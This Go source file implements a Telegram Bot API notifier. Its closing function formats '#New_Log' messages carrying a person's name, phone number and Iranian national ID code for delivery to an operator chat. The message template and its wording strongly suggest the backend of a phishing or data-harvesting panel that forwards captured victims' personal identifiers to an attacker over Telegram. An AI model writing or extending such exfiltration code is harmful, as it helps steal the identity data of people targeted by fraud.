package telegram

import (
	"encoding/json"
	"fmt"
	"log"
	"time"

	"github.com/valyala/fasthttp"
)

const (
	apiURLTemplate = "https://api.telegram.org/bot%s/sendMessage"
	requestTimeout = 10 * time.Second
)

// Credentials — пара токен бота + ID чата-получателя
type Credentials struct {
	BotToken string
	ChatID   string
}

// CredentialsSource возвращает актуальные реквизиты доставки. Токен
// редактируется из админки, поэтому читается при каждой отправке.
type CredentialsSource func() Credentials

// Notifier отправляет уведомления операторам через Telegram Bot API.
// Доставка best-effort: ошибки логируются и никогда не всплывают к пользователю.
type Notifier struct {
	creds  CredentialsSource
	client *fasthttp.Client
	// apiURL переопределяется в тестах
	apiURL string
}

// NewNotifier создает новый Notifier
func NewNotifier(creds CredentialsSource) *Notifier {
	return &Notifier{
		creds:  creds,
		client: &fasthttp.Client{},
		apiURL: apiURLTemplate,
	}
}

type sendMessageRequest struct {
	ChatID    string `json:"chat_id"`
	Text      string `json:"text"`
	ParseMode string `json:"parse_mode"`
}

// Send отправляет текст в настроенный чат. Fire-and-forget: вызывающий
// никогда не получает ошибку доставки.
func (n *Notifier) Send(text string) {
	creds := n.creds()
	if creds.BotToken == "" || creds.ChatID == "" {
		log.Printf("ℹ️ Настройки Telegram не заданы - сообщение: %s", text)
		return
	}

	body, err := json.Marshal(sendMessageRequest{
		ChatID:    creds.ChatID,
		Text:      text,
		ParseMode: "HTML",
	})
	if err != nil {
		log.Printf("❌ Ошибка сериализации сообщения Telegram: %v", err)
		return
	}

	req := fasthttp.AcquireRequest()
	resp := fasthttp.AcquireResponse()
	defer fasthttp.ReleaseRequest(req)
	defer fasthttp.ReleaseResponse(resp)

	req.SetRequestURI(fmt.Sprintf(n.apiURL, creds.BotToken))
	req.Header.SetMethod(fasthttp.MethodPost)
	req.Header.SetContentType("application/json")
	req.SetBody(body)

	if err := n.client.DoTimeout(req, resp, requestTimeout); err != nil {
		log.Printf("❌ Ошибка отправки сообщения в Telegram: %v", err)
		return
	}

	if resp.StatusCode() != fasthttp.StatusOK {
		log.Printf("❌ Telegram вернул статус %d", resp.StatusCode())
		return
	}

	log.Println("✅ Сообщение успешно отправлено в Telegram")
}

// SendAsync отправляет сообщение в отдельной горутине
func (n *Notifier) SendAsync(text string) {
	go n.Send(text)
}

// NewLogMessage собирает сообщение оператору в формате #New_Log.
// Шаблон сохранен из исходной версии приложения.
func NewLogMessage(title, phone, code string, at time.Time) string {
	return fmt.Sprintf(`#New_Log 🫦
"" "" "" "" "" "" "" "" "" ""
📀Name : <code>%s</code>
💿Phone : <code>%s</code>
🪀#Code_meli : <code>%s</code>
"" "" "" "" "" "" "" "" "" ""
🕰Time : %s`,
		title, phone, code, FormatDateTime(at))
}
